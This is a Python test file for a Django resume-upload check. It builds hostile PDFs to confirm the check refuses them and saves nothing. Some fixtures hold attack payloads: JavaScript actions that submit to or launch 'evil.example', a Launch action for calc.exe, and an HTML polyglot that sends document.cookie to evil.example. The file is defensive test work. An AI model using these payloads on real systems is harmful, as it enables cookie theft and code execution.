"""The resume check reads the PDF (pypdf): hostile files built here with pypdf's writer are
refused through the upload form with a clear message, a 400, and nothing saved."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from apps.core.i18n import localized
from apps.seekers import pdf
from apps.seekers.models import Resume
from tests.factories.pdfs import blank_pdf, blank_writer, pdf_bytes

from .helpers import pdf_upload


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = TextStringObject(value)
    return action


def encrypted() -> bytes:
    writer = blank_writer()
    writer.encrypt(user_password="secret", owner_password="owner")
    return pdf_bytes(writer)


def encrypted_without_a_password_to_open() -> bytes:
    """Opens without a password, but only under encryption (owner restrictions)."""
    writer = blank_writer()
    writer.encrypt(user_password="", owner_password="owner")
    return pdf_bytes(writer)


def javascript_in_the_names_tree() -> bytes:
    writer = blank_writer()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return pdf_bytes(writer)


def javascript_open_action() -> bytes:
    writer = blank_writer()
    writer.root_object[_name("/OpenAction")] = _action(
        "/JavaScript", JS="this.submitForm('https://evil.example/');"
    )
    return pdf_bytes(writer)


def javascript_page_action() -> bytes:
    writer = blank_writer()
    writer.pages[0][_name("/AA")] = DictionaryObject(
        {_name("/O"): _action("/JavaScript", JS="app.launchURL('https://evil.example/');")}
    )
    return pdf_bytes(writer)


def _annotation(subtype: str, **entries) -> DictionaryObject:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 100, 40)]),
        }
    )
    annotation.update({_name(f"/{key}"): value for key, value in entries.items()})
    return annotation


def _add_annotation(writer, annotation: DictionaryObject) -> None:
    writer.pages[0][_name("/Annots")] = ArrayObject([annotation])


def launch_link() -> bytes:
    writer = blank_writer()
    _add_annotation(writer, _annotation("/Link", A=_action("/Launch", F="calc.exe")))
    return pdf_bytes(writer)


def xfa_form() -> bytes:
    writer = blank_writer()
    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp/>")}
    )
    return pdf_bytes(writer)


def embedded_file() -> bytes:
    writer = blank_writer()
    writer.add_attachment("payload.exe", b"MZ not really a program")
    return pdf_bytes(writer)


def file_attachment_annotation() -> bytes:
    writer = blank_writer()
    spec = DictionaryObject(
        {_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("notes.txt")}
    )
    _add_annotation(writer, _annotation("/FileAttachment", FS=spec))
    return pdf_bytes(writer)


def no_pages() -> bytes:
    return blank_pdf(pages=0)


def does_not_parse() -> bytes:
    return b"%PDF-1.7\n" + b"\x00garbage that is not a PDF body\n" * 40 + b"%%EOF\n"


def html_polyglot() -> bytes:
    """A PDF header, then an HTML page a browser would run if it sniffed the file."""
    return (
        b"%PDF-1.4\n<html><body><script>fetch('https://evil.example/?c='+document.cookie)"
        b"</script></body></html>\n%%EOF\n"
    )


def zip_polyglot() -> bytes:
    """A real PDF with a ZIP archive appended: both a valid PDF and a valid ZIP."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.html", "<script>alert(1)</script>")
    return blank_pdf() + archive.getvalue()


def html_after_the_end() -> bytes:
    return blank_pdf() + b"<html><script>alert(1)</script></html>\n"


HOSTILE = [
    (encrypted, pdf.ENCRYPTED, "protected with a password or encryption"),
    (encrypted_without_a_password_to_open, pdf.ENCRYPTED, "protected with a password"),
    (javascript_in_the_names_tree, pdf.ACTIVE, "contains JavaScript"),
    (javascript_open_action, pdf.ACTIVE, "contains JavaScript"),
    (javascript_page_action, pdf.ACTIVE, "contains JavaScript"),
    (launch_link, pdf.ACTIVE, "contains JavaScript or other actions"),
    (xfa_form, pdf.ACTIVE, "contains JavaScript or other actions"),
    (embedded_file, pdf.EMBEDDED, "has other files inside it"),
    (file_attachment_annotation, pdf.EMBEDDED, "has other files inside it"),
    (no_pages, pdf.NO_PAGES, "This PDF has no pages."),
    (does_not_parse, pdf.UNREADABLE, "This PDF is damaged"),
    (html_polyglot, pdf.UNREADABLE, "This PDF is damaged"),
    (zip_polyglot, pdf.NOT_PLAIN, "not a plain PDF"),
    (html_after_the_end, pdf.NOT_PLAIN, "not a plain PDF"),
]
IDS = [make.__name__ for make, _problem, _message in HOSTILE]


@pytest.mark.parametrize("make,problem,_message", HOSTILE, ids=IDS)
def test_each_hostile_pdf_is_found_for_what_it_is(make, problem, _message):
    assert pdf.pdf_problem(io.BytesIO(make())) == problem


def test_a_plain_pdf_has_no_problem_and_the_stream_is_rewound():
    stream = io.BytesIO(blank_pdf(pages=2))
    assert pdf.pdf_problem(stream) is None
    assert stream.tell() == 0


def test_the_same_file_without_its_script_passes():
    """The check is about what the file holds, not how pypdf wrote it."""
    assert pdf.pdf_problem(io.BytesIO(pdf_bytes(blank_writer()))) is None
    assert pdf.pdf_problem(io.BytesIO(javascript_in_the_names_tree())) == pdf.ACTIVE


@pytest.mark.django_db
@pytest.mark.parametrize("make,problem,message", HOSTILE, ids=IDS)
def test_the_upload_form_refuses_it_and_saves_nothing(
    seeker_client, private_storage, make, problem, message
):
    upload = SimpleUploadedFile("resume.pdf", make(), content_type="application/pdf")
    response = seeker_client.post(reverse("seekers:resume"), {"file": upload})
    html = response.content.decode()
    assert response.status_code == 400
    assert message in html.replace("&#x27;", "'")
    assert "save it again as a new PDF" in html
    assert not Resume.objects.exists()
    assert not (private_storage / "resumes").exists()


@pytest.mark.django_db
def test_the_refusal_speaks_spanish(client, personas, private_storage):
    personas.seeker.preferred_language = "es"
    personas.seeker.save()
    client.force_login(personas.seeker)
    upload = SimpleUploadedFile("cv.pdf", javascript_open_action(), content_type="application/pdf")
    response = client.post(localized(reverse("seekers:resume"), "es"), {"file": upload})
    html = response.content.decode()
    assert response.status_code == 400
    assert "JavaScript" in html and "contains JavaScript" not in html
    assert "guárdelo de nuevo como un PDF nuevo" in html
    assert not Resume.objects.exists()


@pytest.mark.django_db
def test_a_plain_pdf_is_still_saved(seeker_client, private_storage):
    response = seeker_client.post(reverse("seekers:resume"), {"file": pdf_upload()})
    assert response.status_code == 302
    assert Resume.objects.count() == 1
